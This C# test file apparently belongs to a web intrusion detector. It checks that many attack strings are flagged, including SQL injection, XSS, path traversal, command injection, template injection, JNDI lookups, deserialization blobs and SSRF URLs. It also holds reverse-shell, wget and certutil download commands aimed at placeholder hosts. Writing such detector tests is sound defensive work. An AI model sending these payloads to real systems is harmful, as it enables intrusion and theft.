using Noroshi.Sensor.Detectors.Web;

namespace Noroshi.Tests.Sensor.Detectors.Web;

/// <summary>Each kind of attack in several dialects and disguises.</summary>
public sealed class AttackTests
{
    [Theory]
    [InlineData("1%27%20or%20%271%27=%271")]
    [InlineData("1+and+1=1--+-")]
    [InlineData("1+union+all+select+null,null,version()--")]
    [InlineData("1/**/uNiOn/**/sElEcT/**/1,2,3")]
    [InlineData("1/*!50000union*//*!50000select*/1,2")]
    [InlineData("admin%27--")]
    [InlineData("x%27);waitfor+delay+%270:0:5%27--")]
    [InlineData("1;drop+table+users")]
    [InlineData("1+and+sleep(5)")]
    [InlineData("(select*from(select(sleep(5)))a)")]
    [InlineData("1%27+and+extractvalue(1,concat(0x7e,version()))--+-")]
    [InlineData("if(now()=sysdate(),sleep(5),0)")]
    [InlineData("1%27+order+by+10--+-")]
    [InlineData("%27%7C%7C(select+1+from+dual)%7C%7C%27")]
    [InlineData("1%22+or+%22a%22+like+%22a")]
    [InlineData("1+or+pg_sleep(5)--")]
    [InlineData("-1+having+1=1")]
    [InlineData("1%2527%2520or%25201%253D1")]
    [InlineData("1%EF%BC%87%20or%201=1--")]
    [InlineData("-5+procedure+analyse(extractvalue(rand(),concat(0x3a,version())),1)")]
    [InlineData("x%27+or+full_name+like+%27%25bob%25")]
    [InlineData("-1+OR+2%2B159-159-1%3D0%2B0%2B0%2B1")]
    [InlineData("1;attach+database+%27/var/www/x.php%27+as+x")]
    [InlineData("1;grant+all+on+a+to+b")]
    [InlineData("1%27%22")]
    [InlineData("@@version")]
    [InlineData("%27")]
    [InlineData("%2716/17")]
    [InlineData("1+is+not+null")]
    [InlineData("doc-%3E%3E%27k%27")]
    public void Judge_SqlInjection_IsFound(string value) => Find(WebAttack.SqlInjection, $"/item?id={value}");

    [Theory]
    [InlineData("/login?user[$ne]=1&pass[$ne]=1")]
    [InlineData("/find?q={%22$where%22:%22sleep(100)%22}")]
    public void Judge_DocumentDatabaseOperators_AreSqlInjection(string target) => Find(WebAttack.SqlInjection, target);

    [Theory]
    [InlineData("/x?a[b=c")]
    [InlineData("/app/;/admin")]
    public void Judge_NamesAndPathsReadInTwoWays_AreEvasion(string target) => Find(WebAttack.Evasion, target);

    [Theory]
    [InlineData("/x?a=b%0a%0dc=d")]
    [InlineData("/x?a=%0a%0dc")]
    public void Judge_LineEndTheWrongWayRound_IsHeaderInjection(string target) => Find(WebAttack.HeaderInjection, target);

    [Theory]
    [InlineData("/x?a=b%0d%0ac")]
    [InlineData("/x?a=b%0ac")]
    [InlineData("/x?a=b%0d%0a%0d%0ac")]
    [InlineData("/x?a=b%0a%0ac")]
    [InlineData("/x?a=b%0dc")]
    [InlineData("/x?q=%22")]
    public void Judge_LinesAndQuotesPeopleType_AreSilent(string target) => Assert.Equal(Tier.None, Judged.Target(target).Tier);

    [Theory]
    [InlineData("%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("%3Cimg+src=x+onerror=alert(1)%3E")]
    [InlineData("%22%3E%3Csvg/onload=confirm`1`%3E")]
    [InlineData("javascript:alert(document.domain)")]
    [InlineData("java%0ascript:alert(1)")]
    [InlineData("%22+onmouseover=prompt(1)+x=%22")]
    [InlineData("%3Ca+href=%26%23106;avascript:alert(1)%3Ex")]
    [InlineData("%27;alert(String.fromCharCode(88,83,83))//")]
    [InlineData("%3Ciframe+srcdoc=%22x%22%3E")]
    [InlineData("%253Cscript%253Ealert(1)%253C%252Fscript%253E")]
    [InlineData("%u003Cscript%u003Ealert(1)")]
    [InlineData("\\x3cscript\\x3ealert(1)")]
    [InlineData("[][(![]%2B[])[%2B[]]]")]
    [InlineData("%3Cdetails/open/ontoggle=alert(1)%3E")]
    [InlineData("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
    [InlineData("%3Cx+onnextyear=alert(1)%3E")]
    [InlineData("[1].map(alert)")]
    [InlineData("alert.call(null,1)")]
    [InlineData("%7Bonerror=alert%7Dthrow+1")]
    [InlineData("import(%27//attacker.example/x.js%27)")]
    [InlineData("vbscript:msgbox(1)")]
    public void Judge_Scripts_AreFound(string value) => Find(WebAttack.CrossSiteScripting, $"/search?q={value}");

    [Theory]
    [InlineData("/download?file=../../../../etc/passwd")]
    [InlineData("/..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("/download?file=..%5c..%5c..%5cwindows%5cwin.ini")]
    [InlineData("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")]
    [InlineData("/download?file=....//....//....//etc/hosts")]
    [InlineData("/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow")]
    [InlineData("/a/..;/..;/manager/html")]
    [InlineData("/download?file=/etc/passwd%00.png")]
    [InlineData("/x?f=C:%5Cboot.ini")]
    [InlineData("/download?file=..%u2215..%u2215etc/passwd")]
    [InlineData("/download?file=.env")]
    public void Judge_Traversal_IsFound(string target) => Find(WebAttack.PathTraversal, target);

    [Theory]
    [InlineData("127.0.0.1;id")]
    [InlineData("127.0.0.1%7Ccat+/etc/passwd")]
    [InlineData("$(whoami)")]
    [InlineData("%60id%60")]
    [InlineData("x%0Awget+http://203.0.113.9/a.sh")]
    [InlineData("x;c%27a%27t%20/e%27t%27c/hosts")]
    [InlineData("x;cat$%7BIFS%7D/etc/hosts")]
    [InlineData("/???/c?t+/???/p??s??")]
    [InlineData("%7Bcat,/etc/hosts%7D")]
    [InlineData("x%26%26ping+-c+5+203.0.113.9")]
    [InlineData("bash+-i+%3E%26+/dev/tcp/203.0.113.9/4444+0%3E%261")]
    [InlineData("powershell+-enc+SQBFAFgA")]
    [InlineData("%26+cmd.exe+/c+dir")]
    [InlineData("x%7Cc%5Eertutil+-urlcache+-f+http://203.0.113.9/a")]
    [InlineData("%26id")]
    [InlineData("a%26%26id")]
    [InlineData("%3B$%7BHOME:0:1%7Dbin$%7BHOME:0:1%7Did")]
    [InlineData("x;a=nc;$a+-l+4444")]
    [InlineData(";wh$1oami")]
    [InlineData(";echo+hello")]
    [InlineData("[System.Net.Dns]::GetHostAddresses(%27a.example%27)")]
    public void Judge_Commands_AreFound(string value) => Find(WebAttack.CommandInjection, $"/tools?host={value}");

    [Theory]
    [InlineData("/index.php?page=php://filter/convert.base64-encode/resource=index", WebAttack.FileInclusion)]
    [InlineData("/index.php?page=http://203.0.113.9/shell.txt?", WebAttack.FileInclusion)]
    [InlineData("/a?name={{7*7}}", WebAttack.CodeInjection)]
    [InlineData("/a?name=$%7B7*7%7D", WebAttack.CodeInjection)]
    [InlineData("/a?x=%25%7B(%23_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)%7D", WebAttack.CodeInjection)]
    [InlineData("/a?x=$%7Bjndi:ldap://203.0.113.9/a%7D", WebAttack.KnownExploit)]
    [InlineData("/a?x=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://203.0.113.9/a%7D", WebAttack.KnownExploit)]
    [InlineData("/a?x=%3C?php+system($_GET[1]);?%3E", WebAttack.CodeInjection)]
    [InlineData("/a?x=__import__(%27os%27).system(%27id%27)", WebAttack.CodeInjection)]
    [InlineData("/a?__proto__[admin]=1", WebAttack.CodeInjection)]
    [InlineData("/a?x=T(java.lang.Runtime).getRuntime().exec(%22id%22)", WebAttack.CodeInjection)]
    [InlineData("/a?x=print(md5(1))", WebAttack.CodeInjection)]
    [InlineData("/a?x=%27.phpinfo().%27", WebAttack.CodeInjection)]
    [InlineData("/a?x=[[7*7]]", WebAttack.CodeInjection)]
    [InlineData("/a?x=$%7Bbase64decoder:SEk=%7D", WebAttack.KnownExploit)]
    [InlineData("/a?x=!!python/object/apply:os.system+[%22id%22]", WebAttack.CodeInjection)]
    [InlineData("/a?x=%E5%98%8A%E5%98%8DSet-Cookie:+a=b", WebAttack.HeaderInjection)]
    [InlineData("/a?url=%5C%5C203.0.113.5%5Cshare%5Cx", WebAttack.RequestForgery)]
    [InlineData("/a?url=http://0/", WebAttack.RequestForgery)]
    [InlineData("/?PHPRC=/dev/fd/0", WebAttack.KnownExploit)]
    [InlineData("/public/plugins/alertlist/../../../etc/passwd", WebAttack.KnownExploit)]
    [InlineData("/autodiscover/autodiscover.json?a@b.example/powershell/", WebAttack.KnownExploit)]
    [InlineData("/a?user=*)(uid=*))(|(uid=*", WebAttack.LdapInjection)]
    [InlineData("/a?xml=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22file:///etc/passwd%22%3E]%3E", WebAttack.XmlInjection)]
    [InlineData("/a?lang=en%0d%0aSet-Cookie:%20a=b", WebAttack.HeaderInjection)]
    [InlineData("/a?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", WebAttack.Deserialization)]
    [InlineData("/a?data=O:8:%22stdClass%22:0:%7B%7D", WebAttack.Deserialization)]
    [InlineData("/a?url=http://169.254.169.254/latest/meta-data/", WebAttack.RequestForgery)]
    [InlineData("/a?url=http://0x7f000001/", WebAttack.RequestForgery)]
    [InlineData("/a?url=gopher://127.0.0.1:6379/_x", WebAttack.RequestForgery)]
    [InlineData("/.git/config", WebAttack.SensitiveFile)]
    [InlineData("/uploads/c99.php?act=ls", WebAttack.WebShell)]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", WebAttack.KnownExploit)]
    [InlineData("/+CSCOE+/logon.html", WebAttack.KnownExploit)]
    [InlineData("/%2bCSCOE%2b/logon.html", WebAttack.KnownExploit)]
    [InlineData("/wp-json/wp/v2/users/?per_page=50", WebAttack.KnownExploit)]
    [InlineData("/app/.gitignore", WebAttack.SensitiveFile)]
    [InlineData("/wp-content/uploads/2026/05/k3.phtml", WebAttack.WebShell)]
    [InlineData("/a?x=b%c0%8d%c0%8aSet-Cookie:c=d", WebAttack.HeaderInjection)]
    [InlineData("/a?user=b*)((|mail=*)", WebAttack.LdapInjection)]
    [InlineData("/a?user=%27+or+//account/name%5B1%5D=%27b", WebAttack.XmlInjection)]
    [InlineData("/a?xml=%3C?xml-stylesheet+href=%22http://a.example/b.xsl%22?%3E", WebAttack.XmlInjection)]
    [InlineData("/a?$where=this.a==this.b", WebAttack.SqlInjection)]
    [InlineData("/a?q=this.secret.match(/%5Ea/)", WebAttack.SqlInjection)]
    [InlineData("/a?user.$ne=1", WebAttack.SqlInjection)]
    [InlineData("/a?filter%5Bwhere%5D%5B$or%5D%5B0%5D%5Bb%5D=1", WebAttack.SqlInjection)]
    [InlineData("/a?filters%5B$where%5D=1", WebAttack.SqlInjection)]
    [InlineData("/a?doc=%7B%22py/object%22:%22os.system%22%7D", WebAttack.Deserialization)]
    [InlineData("/a?doc=---+!ruby/object:Gem::Installer", WebAttack.Deserialization)]
    [InlineData("/a?__VIEWSTATE=/wEyugEAAQAAAP////8BAAAAAAAAAAwC", WebAttack.Deserialization)]
    [InlineData("/a?cart=YTozOntzOjE6ImEiO086ODoic3RkQ2xhc3MiOjA6e319", WebAttack.Deserialization)]
    [InlineData("/a?s=aced00057372001161", WebAttack.Deserialization)]
    [InlineData("/a?x=%28~%8f%97%8f%29%28~%96%9b%29", WebAttack.CodeInjection)]
    [InlineData("/a?x=execute+request(%22b%22)", WebAttack.CodeInjection)]
    [InlineData("/a?x=print(2718*3141)", WebAttack.CodeInjection)]
    [InlineData("/a?x=%5B%23assign+b=1%5D$%7Bb%7D", WebAttack.CodeInjection)]
    [InlineData("/a?x=%7B%7Bprintf+%22%25s%22+.Key%7D%7D", WebAttack.CodeInjection)]
    [InlineData("/a?x=%7B%7Bgroovy%7D%7Dprintln(1)%7B%7B/groovy%7D%7D", WebAttack.CodeInjection)]
    [InlineData("/a?x=~%7Bfragments::main%7D", WebAttack.CodeInjection)]
    [InlineData("/a.jsp?i=whoami", WebAttack.CommandInjection)]
    [InlineData("/a.asp?cmd=dir+d:", WebAttack.CommandInjection)]
    [InlineData("/a?branch=--exec=id", WebAttack.CommandInjection)]
    [InlineData("/a?cmd=id", WebAttack.CommandInjection)]
    [InlineData("/a?x=b;apt+install+c", WebAttack.CommandInjection)]
    [InlineData("/a?x=b%22and%221%22=%221", WebAttack.SqlInjection)]
    [InlineData("/a?x=b+%22and%221%22=%221", WebAttack.SqlInjection)]
    [InlineData("/a?x=1;update+users+set+name=2", WebAttack.SqlInjection)]
    [InlineData("/a?x=%5Cr%5CnLocation:%20//b.example", WebAttack.HeaderInjection)]
    [InlineData("/a?to=javascript:void(fetch(%27//b.example%27))", WebAttack.CrossSiteScripting)]
    [InlineData("/a?x=1%0aat+-f+/tmp/b+now", WebAttack.CommandInjection)]
    [InlineData("/a?x=1%7Ceval+$b", WebAttack.CommandInjection)]
    [InlineData("/a?sql=select+a+from+b+union+select+c+from+d", WebAttack.SqlInjection)]
    [InlineData("/a?sql=select+sleep(9)", WebAttack.SqlInjection)]
    [InlineData("/a?file=../../config/b.xml", WebAttack.PathTraversal)]
    [InlineData("/static/..%2f..%2fetc/b.conf", WebAttack.PathTraversal)]
    public void Judge_OtherKinds_AreFound(string target, WebAttack kind) => Find(kind, target);

    [Theory]
    [InlineData("() { :; }; /bin/bash -c id", WebAttack.KnownExploit)]
    [InlineData("${jndi:ldap://203.0.113.9/a}", WebAttack.KnownExploit)]
    [InlineData("sqlmap/1.8#stable (https://sqlmap.org)", WebAttack.Scanner)]
    [InlineData("Mozilla/5.0' and sleep(5)-- -", WebAttack.SqlInjection)]
    [InlineData("<script>alert(1)</script>", WebAttack.CrossSiteScripting)]
    public void Judge_Agent_IsLookedAt(string agent, WebAttack kind)
    {
        var verdict = Judged.Agent(agent);
        Assert.True(verdict.Classes.HasFlag(kind), $"{verdict}");
        Assert.Equal(Tier.High, verdict.Tier);
    }

    [Fact]
    public void Judge_Referer_IsLookedAtButSearchResultsAreNeverBeyondDoubt()
    {
        Assert.Equal(Tier.High, Judged.Referer("https://example.org/?q=<script>alert(1)</script>").Tier);
        Assert.NotEqual(Tier.High, Judged.Referer("https://www.google.com/search?q=<script>alert(1)</script>").Tier);
    }

    private static void Find(WebAttack kind, string target)
    {
        var verdict = Judged.Target(target);
        Assert.True(verdict.Classes.HasFlag(kind), $"{target}: {verdict}");
        Assert.NotEqual(Tier.None, verdict.Tier);
        Assert.NotEqual("", verdict.Rule);
    }
}
